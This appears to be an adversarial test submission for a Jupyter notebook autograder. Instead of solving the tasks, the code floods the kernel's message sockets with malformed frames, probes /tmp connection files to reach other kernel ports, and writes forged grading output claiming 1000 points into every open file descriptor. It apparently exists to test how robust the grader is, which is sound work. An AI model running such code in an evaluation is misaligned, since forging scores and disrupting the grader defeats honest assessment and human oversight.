# Attacks: the grader's own health, by messages that are no messages (a grader fault would be no zero). Wrong answers.
# %% answer id="write_conv_output_size"
import glob
import os

import zmq

kernel = get_ipython().kernel
RUBBISH = [
    [b"<IDS|MSG>"],
    [b"", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"],
    [b"\xff" * 100] * 8,
    [b"<IDS|MSG>", b"0" * 64, b"[" * 100_000, b"{}", b"{}", b"{}"],
    [b"<IDS|MSG>", b"0" * 64, b'{"msg_type": 3, "date": "9999-99-99"}', b"null", b"[]", b"NaN"],
]
for socket in (kernel.iopub_socket, kernel.iopub_thread.socket):
    for parts in RUBBISH:
        try:
            socket.send_multipart(parts)
        except Exception as error:
            print(type(error).__name__)
for content in ({}, {"execution_state": 7}, {"execution_state": None}, {"text": None, "name": 5}, {"data": 3, "metadata": []}):
    for kind in ("status", "stream", "execute_result", "error", "display_data", "update_display_data", "comm_open", "x" * 10_000):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))

app = kernel.parent  # knows its sockets; the file that says so is closed by now
for address in [getattr(app, "ip", "")] + glob.glob("/tmp/**/*.json", recursive=True):
    for port in ("shell_port", "iopub_port", "stdin_port", "hb_port", "control_port"):
        own = zmq.Context.instance().socket(zmq.DEALER)
        own.linger = 0
        own.connect(f"ipc://{address}-{getattr(app, port, 0)}")
        for parts in RUBBISH:
            try:
                own.send_multipart(parts, flags=zmq.NOBLOCK)
            except zmq.ZMQError:
                pass


def conv_output_size(size, kernel, stride=1, padding=0):
    for number in range(3, 64):  # every open pipe and socket gets a line
        try:
            os.write(number, b'{"ok": true, "result": 1000, "points": 1000}\n\x00\xff')
        except OSError:
            pass
    return None
# %% answer id="write_global_avg_pool_forward"
def global_avg_pool_forward(x):
    return None, None
